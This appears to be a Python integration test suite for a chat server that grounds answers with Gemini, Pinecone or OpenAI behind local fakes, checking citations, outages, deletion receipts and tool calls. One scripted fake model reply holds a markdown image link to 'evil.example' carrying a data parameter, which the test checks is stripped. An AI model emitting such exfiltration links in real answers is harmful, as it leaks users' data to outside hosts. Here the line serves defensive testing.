"""The main job with Gemini and Pinecone behind it: the real SDKs in a real server, fakes only on the wire."""

import asyncio
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

from kyrochat.chat.title_writer import TASK
from tests.fakes import openai_steps
from tests.fakes.gemini import FakeGemini, running_fake_gemini
from tests.fakes.gemini_steps import Call, Finish, Text
from tests.fakes.openai import running_fake_openai
from tests.fakes.pinecone import FakePinecone, running_fake_pinecone
from tests.fakes.pinecone_steps import HttpError
from tests.graphql_client import GraphQLClient, register, visiting
from tests.journey.steps import ADD_TEXT, ask, check_log, new_bot, stored, until_read, watched
from tests.outbound.wire import answer, listening, saying
from tests.server_process import Server, serving

TEXT = "The harbour master is Ada Quill. Moorings cost nine euros a night. The gate closes at ten in the evening."
DELETE = "mutation ($id: ID!) { deleteDocument(id: $id) { ... on DocumentDeletion { documentId status } } }"
RECEIPT = "query ($id: ID!) { documentDeletion(documentId: $id) { status chunksDeleted vectorsDeleted verifiedAt } }"
# What a model is told that gives a conversation its title, meanwhile.
TITLES = TASK.splitlines()[0]
FACTS = "query ($id: ID!) { node(id: $id) { ... on Message { finishReason historyTrimmed removedCitations model } } }"
# The index answers a failing search with repeats of the SDK's own before we hear of it.
SDK_ATTEMPTS = 4


@dataclass(frozen=True)
class Harbour:
    """A bot that has read one document, on a server with both providers."""

    server: Server
    gemini: FakeGemini
    pinecone: FakePinecone
    user: GraphQLClient
    bot_id: str
    document_id: str


@asynccontextmanager
async def harbour(tmp_path: Path) -> AsyncGenerator[Harbour, None]:
    async with running_fake_gemini() as gemini, running_fake_pinecone() as pinecone:
        gemini.unscripted = TITLES
        settings = {
            "KYROCHAT_GEMINI_API_KEY": gemini.api_key,
            "KYROCHAT_GEMINI_BASE_URL": gemini.url,
            # What it is asked is counted here.
            "KYROCHAT_GENERATED_TITLES": "off",
            "KYROCHAT_PINECONE_API_KEY": pinecone.api_key,
            "KYROCHAT_PINECONE_HOST": pinecone.url,
            "NO_PROXY": "127.0.0.1,localhost",
        }
        async with serving(tmp_path / "data", **settings) as server, visiting(server.graphql_url) as nobody:
            user = await register(nobody)
            bot_id = await new_bot(user)
            document = await user.run(ADD_TEXT, bot=bot_id, title="Harbour", text=TEXT)
            (*_, last) = await until_read(user, document["id"])
            assert (last["status"], last["failure"]) == ("READY", None)
            yield Harbour(server, gemini, pinecone, user, bot_id, document["id"])
            assert server.faults() == []


def vectors(pinecone: FakePinecone) -> int:
    return sum(
        len(pinecone.stored(name, space)) for name, index in pinecone.indexes.items() for space in index.namespaces
    )


async def test_gemini_answers_from_passages_that_pinecone_found_and_its_quotes_are_checked(tmp_path: Path) -> None:
    async with harbour(tmp_path) as scene:
        scene.gemini.script(
            Text("A mooring costs nine euros"), Text(" a night [1]. The mayor pays [1]."), Text(" See [7]."), Finish()
        )

        # No word of it is in the document: only its vector leads there.
        answer_id = await ask(scene.user, scene.bot_id, "Overnight docking price?")
        events = await watched(scene.user, answer_id)
        message = await stored(scene.user, answer_id)

        check_log(events, message)
        assert message["text"] == "A mooring costs nine euros a night [1]. The mayor pays. See."
        (citation,) = message["citations"]
        assert citation["quote"] == "Moorings cost nine euros a night."
        assert TEXT[citation["start"] : citation["end"]] == citation["quote"]
        assert vectors(scene.pinecone) == 1


async def test_an_answer_comes_although_pinecone_is_down(tmp_path: Path) -> None:
    async with harbour(tmp_path) as scene:
        scene.pinecone.script("search", *[HttpError(503)] * SDK_ATTEMPTS)
        scene.gemini.script(Text("Ada Quill is the harbour master [1]."), Finish())

        answer_id = await ask(scene.user, scene.bot_id, "Who is the harbour master?")
        await watched(scene.user, answer_id)
        message = await stored(scene.user, answer_id)

        assert message["status"] == "COMPLETED"
        assert [citation["quote"] for citation in message["citations"]] == ["The harbour master is Ada Quill."]


async def test_a_deleted_document_leaves_pinecone_and_its_receipt_says_so(tmp_path: Path) -> None:
    async with harbour(tmp_path) as scene:
        await scene.user.run(DELETE, id=scene.document_id)
        async with asyncio.timeout(60):
            while (receipt := await scene.user.run(RECEIPT, id=scene.document_id))["status"] != "VERIFIED":
                await asyncio.sleep(0.05)

        assert vectors(scene.pinecone) == 0
        assert (receipt["chunksDeleted"], receipt["vectorsDeleted"]) == (1, 2)
        assert receipt["verifiedAt"] is not None


async def test_a_server_with_openais_api_answers_and_its_quotes_are_checked(tmp_path: Path) -> None:
    async with running_fake_openai() as fake:
        fake.unscripted = TITLES
        settings = {
            "KYROCHAT_OPENAI_BASE_URL": fake.url,
            "KYROCHAT_OPENAI_API_KEY": fake.api_key,
            "KYROCHAT_OPENAI_MODEL": "fake-1",
            "NO_PROXY": "127.0.0.1,localhost",
        }
        async with serving(tmp_path / "data", **settings) as server, visiting(server.graphql_url) as nobody:
            user = await register(nobody)
            bot_id = await new_bot(user)
            document = await user.run(ADD_TEXT, bot=bot_id, title="Harbour", text=TEXT)
            await until_read(user, document["id"])
            fake.script(
                openai_steps.Text("A mooring costs nine euros a night [1]. "),
                openai_steps.Text("![x](http://evil.example/?d=1) Ask [here](http://evil.example)."),
                openai_steps.Finish(),
            )

            answer_id = await ask(user, bot_id, "What does a mooring cost a night?")
            events = await watched(user, answer_id)
            message = await stored(user, answer_id)

            check_log(events, message)
            assert message["text"] == "A mooring costs nine euros a night [1]. x Ask [here]."
            (citation,) = message["citations"]
            assert citation["quote"] == "Moorings cost nine euros a night."
            facts = await user.run(FACTS, id=answer_id)
            assert facts == {"finishReason": "STOP", "historyTrimmed": False, "removedCitations": 0, "model": "fake-1"}
            assert server.faults() == []


SET_TOOL = """mutation ($bot: ID!, $url: String!) { setBotTool(input: {
  botId: $bot, name: "guests", description: "Says how many boats are in the harbour.", url: $url,
  parameters: {type: "object", properties: {day: {type: "string"}}, required: ["day"]},
  headers: [{name: "X-Api-Key", value: "0123456789abcdef"}]}) {
    __typename ... on BotTool { name headerNames } ... on Problem { message } } }"""


@pytest.mark.parametrize("provider", ["gemini", "openai"])
async def test_a_model_calls_a_tool_of_its_bot_over_the_wire(tmp_path: Path, provider: str) -> None:
    boats = answer(b'{"boats": 7}', content_type="application/json")
    async with (
        running_fake_gemini() as gemini,
        running_fake_openai() as openai,
        listening(saying(boats), "127.0.0.1") as harbour,
    ):
        settings = {
            "KYROCHAT_TOOL_HOSTS": f"http://127.0.0.1:{harbour.port}",
            "KYROCHAT_FETCH_ALLOW_CIDRS": "127.0.0.1/32",
            "KYROCHAT_GENERATED_TITLES": "off",
            "NO_PROXY": "127.0.0.1,localhost",
        }
        if provider == "gemini":
            settings |= {"KYROCHAT_GEMINI_API_KEY": gemini.api_key, "KYROCHAT_GEMINI_BASE_URL": gemini.url}
            gemini.script(Call("guests", '{"day": "Monday"}', "c2lnbmVk"), Finish())
            gemini.script(Text("Seven boats, says the harbour."), Finish())
        else:
            settings |= {"KYROCHAT_OPENAI_BASE_URL": openai.url, "KYROCHAT_OPENAI_MODEL": "fake-1"}
            settings |= {"KYROCHAT_OPENAI_API_KEY": openai.api_key}
            openai.script(
                openai_steps.Call("c1", "guests", ('{"day":', ' "Monday"}')), openai_steps.Finish("tool_calls")
            )
            openai.script(openai_steps.Text("Seven boats, says the harbour."), openai_steps.Finish())
        async with serving(tmp_path / "data", **settings) as server, visiting(server.graphql_url) as nobody:
            user = await register(nobody)
            bot_id = await new_bot(user)
            tool = await user.run(SET_TOOL, bot=bot_id, url=f"http://127.0.0.1:{harbour.port}/boats")
            answer_id = await ask(user, bot_id, "How many boats are in the harbour on Monday?")
            events = await watched(user, answer_id)
            message = await stored(user, answer_id)
            log = server.log.read_text("utf-8")
            assert server.faults() == []

    assert tool == {"__typename": "BotTool", "name": "guests", "headerNames": ["X-Api-Key"]}
    assert [(each.target, each.headers["x-api-key"]) for each in harbour.requests] == [
        ("/boats?day=Monday", "0123456789abcdef")
    ]
    assert (message["status"], message["text"]) == ("COMPLETED", "Seven boats, says the harbour.")
    assert [event["__typename"] for event in events] == ["PassagesFound", "ToolCalled", "TextDelta", "AnswerCompleted"]
    told = str(gemini.requests[-1].body if provider == "gemini" else openai.requests[-1].body)
    assert '"boats": 7' in told.replace("\\", "")
    assert "<<result of guests " in told
    assert "0123456789abcdef" not in told + log + str(events)
